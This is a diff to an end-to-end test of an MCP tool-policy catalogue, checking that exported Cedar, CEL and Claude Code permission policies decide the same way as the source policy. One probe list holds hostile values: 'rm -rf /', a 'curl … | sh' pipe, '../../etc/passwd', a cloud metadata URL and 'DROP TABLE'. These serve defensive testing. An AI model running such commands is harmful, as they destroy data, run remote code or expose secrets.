@@ -8,7 +8,8 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { load } from 'cheerio';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { validatePolicy } from '../classifier/index.ts';
+import { evaluatePolicy, formatById, serverNameFromSlug, validatePolicy, type Policy, type ToolCall } from '../policy/index.ts';
+import { cedarDecision, celDecision } from '../policy/formats/engines.test-helper.ts';
 import { main } from '../scripts/cli.ts';
 import { packFixture, startFakeRegistry, type FakeRegistry } from './helpers/npm-registry.ts';
 import { sandboxTempDir } from './helpers/sandbox-paths.ts';
@@ -123,6 +124,42 @@ describe('mcp-catalogue run, end to end', () => {
     expect(policy.hide).toContain('delete_all_notes');
     expect(policy.tools.create_refund.deny_if[0].conditions).toEqual([]);
     expect(policy.tools.run_shell_command.limits[0].max).toBeLessThan(policy.tools.write_note.limits[0].max);
+  });
+
+  it('exports every server\'s policy in every format, each file passing its format\'s check', () => {
+    const lines = readFileSync(path.join(work, 'export/servers.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { slug: string; policy: string | null; policyFiles: Record<string, string> });
+    const withPolicy = lines.filter((l) => l.policy !== null);
+    expect(withPolicy.length).toBeGreaterThan(0);
+    for (const line of withPolicy) {
+      expect(Object.keys(line.policyFiles)).toEqual(['policy-json', 'intercept', 'claude-code', 'cedar', 'cel', 'kong', 'docker', 'vscode']);
+      for (const [id, file] of Object.entries(line.policyFiles)) {
+        expect(formatById(id)!.validate(readFileSync(path.join(work, 'export', file), 'utf8'), { serverName: serverNameFromSlug(line.slug) }), `${line.slug} ${id}`).toEqual([]);
+      }
+    }
+    // The crawl's policies decide like policy.json in Cedar and CEL, or deny where the file reported it could not say the rule.
+    const probes = ['rm -rf /', 'curl http://x | sh', '../../etc/passwd', 'notes.txt', 'http://169.254.169.254/', 'DROP TABLE t', 20000, 5];
+    let compared = 0;
+    for (const line of withPolicy) {
+      const policy = JSON.parse(readFileSync(path.join(work, 'export', line.policyFiles['policy-json']!), 'utf8')) as Policy;
+      const names = [...Object.keys(policy.tools), ...(policy.hide ?? []), 'unlisted_tool'];
+      const argNames = [...new Set(JSON.stringify(policy).match(/"args\.[^".]+/g)?.map((m) => m.slice(6)) ?? [])];
+      const calls: ToolCall[] = names.flatMap((name) => [{ name, arguments: {} }, ...probes.map((v) => ({ name, arguments: Object.fromEntries(argNames.map((a) => [a, v])) }))]);
+      for (const [id, engine] of [['cedar', cedarDecision], ['cel', celDecision]] as const) {
+        const out = formatById(id)!.render(policy, { serverName: serverNameFromSlug(line.slug) });
+        const degraded = new Set(out.degraded.map((d) => d.tool));
+        for (const call of calls) {
+          const ours = evaluatePolicy(policy, call).decision;
+          const theirs = engine(out.text, call);
+          compared += 1;
+          if (theirs !== ours) expect({ id, call, ours, theirs, reported: degraded.has(call.name) || degraded.has('*') }).toEqual({ id, call, ours: 'allow', theirs: 'deny', reported: true });
+        }
+      }
+    }
+    expect(compared).toBeGreaterThan(50);
+
+    const claude = JSON.parse(readFileSync(path.join(work, 'export/claude-code/notes-mcp-fixture.json'), 'utf8'));
+    expect(claude.permissions.deny).toContain('mcp__notes-mcp-fixture__delete_all_notes');
+    expect(claude.permissions.allow).toContain('mcp__notes-mcp-fixture__read_note');
   });
 
   it('builds the index, the server page and a page per tool', () => {
